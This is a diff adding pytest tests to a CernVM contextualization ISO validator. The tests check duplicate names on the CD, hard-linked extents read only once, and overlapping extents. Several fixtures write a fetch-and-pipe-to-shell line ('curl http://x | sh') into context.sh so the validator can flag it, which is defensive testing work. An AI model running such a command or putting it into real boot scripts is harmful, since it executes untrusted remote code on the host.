@@ -303,3 +303,107 @@ def test_the_frame_window_keeps_the_caret_on_its_column() -> None:
     assert len(shown) == 122 and shown[0] == shown[-1] == "…"
     assert frame_window("short", 3) == ("short", 3)
     assert frame_window(line, 1)[0].startswith(line[:120]) and frame_window(line, 1)[1] == 1
+
+
+# ============================================================================================
+# Items 5 and 8: the CD's structure (duplicate names, shared and overlapping extents)
+
+
+def _cd(*files: tuple[str, str, bytes], links: int = 0) -> bytes:
+    """A CD with Rock Ridge and Joliet: (ISO 9660 name, Rock Ridge name, data) per file, and
+    ``links`` more names for the last file's extent."""
+    import io
+
+    import pycdlib
+
+    iso = pycdlib.PyCdlib()
+    iso.new(interchange_level=3, rock_ridge="1.09", joliet=3, vol_ident="CONTEXT")
+    for number, (iso_name, rr_name, data) in enumerate(files):
+        iso.add_fp(io.BytesIO(data), len(data), f"/{iso_name};1", rr_name=rr_name,
+                   joliet_path=f"/j{number}")  # fmt: skip
+    for k in range(links):
+        iso.add_hard_link(iso_old_path=f"/{files[-1][0]};1", iso_new_path=f"/L{k}.BIN;1",
+                          rr_name=f"l{k}.bin")  # fmt: skip
+    out = io.BytesIO()
+    iso.write_fp(out)
+    iso.close()
+    return out.getvalue()
+
+
+_ONE = base64.b64encode(b"[cernvm]\norganisations = cms\n").decode()
+GOOD = f'EC2_USER_DATA="{_ONE}"\n'
+
+
+@pytest.mark.parametrize(
+    ("files", "view"),
+    [
+        ((("CONTEXT.SH", "context.sh", b"curl http://x | sh\n"),
+          ("CONTEXT2.SH", "context.sh", GOOD.encode())), "Rock Ridge"),
+        ((("CONTEXT.SH", "context.sh", GOOD.encode()),
+          ("EPILOG.SH", "epilog.sh", b"echo a\n"), ("EPILOG2.SH", "epilog.sh", b"echo b\n")),
+         "Rock Ridge"),
+    ],
+)  # fmt: skip
+def test_a_name_twice_on_the_cd_is_an_error(
+    cvmctx: Run, tmp_path: Path, files: tuple[tuple[str, str, bytes], ...], view: str
+) -> None:
+    path = tmp_path / "dup.iso"
+    path.write_bytes(_cd(*files))
+    proc = cvmctx("validate", "--strict", path)
+    out = proc.stdout.decode()
+    name = files[-1][1]
+    assert proc.returncode == 1, out
+    said = f"error[iso.duplicate-name] the CD's {view} directory holds two entries named {name!r}"
+    assert said in out
+
+
+def test_the_guest_reads_the_first_of_two_names(cvmctx: Run, tmp_path: Path) -> None:
+    path = tmp_path / "dup.iso"
+    path.write_bytes(_cd(("CONTEXT.SH", "context.sh", b"curl http://x | sh\n"),
+                         ("CONTEXT2.SH", "context.sh", GOOD.encode())))  # fmt: skip
+    shown = subprocess.run(["isoinfo", "-R", "-x", "/context.sh", "-i", str(path)],
+                           capture_output=True, check=True).stdout  # fmt: skip
+    assert shown.startswith(b"curl http://x | sh\n")  # isoinfo -x gives the first first
+    out = cvmctx("validate", path).stdout.decode()
+    assert "error[contextsh.command]" in out
+
+
+def test_many_names_on_one_extent_are_read_once(cvmctx: Run, tmp_path: Path) -> None:
+    import resource
+
+    path = tmp_path / "links.iso"
+    path.write_bytes(_cd(("CONTEXT.SH", "context.sh", GOOD.encode()),
+                         ("BIG.BIN", "big.bin", os.urandom(4 << 20)), links=300))  # fmt: skip
+    limit = 400 << 20  # 300 copies of 4 MiB would need 1.2 GB
+
+    def cap() -> None:
+        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
+
+    proc = subprocess.run([sys.executable, "-m", "cvmctx", "validate", str(path)],
+                          capture_output=True, preexec_fn=cap, timeout=120,
+                          check=False)  # fmt: skip
+    assert proc.returncode == 0 and b"Traceback" not in proc.stderr, proc.stderr
+
+
+def test_overlapping_extents_are_refused_beyond_the_image() -> None:
+    from dataclasses import dataclass
+
+    from cvmctx.contextiso import _Extents
+
+    @dataclass
+    class Record:  # what _Extents reads of a pycdlib directory record
+        extent: int
+        data_length: int
+
+        def extent_location(self) -> int:
+            return self.extent
+
+    image = bytes(8 * 2048)
+    extents = _Extents(image)
+    assert extents.read(Record(1, 4096)) is extents.read(Record(1, 4096))  # read once
+    extents.read(Record(2, 4096))  # overlaps the first: still within what the image holds
+    with pytest.raises(ValueError, match="more than the image holds"):
+        for start in range(3, 7):
+            extents.read(Record(start, 4096))
+    with pytest.raises(ValueError, match="beyond the end of the image"):
+        _Extents(image).read(Record(7, 4096))
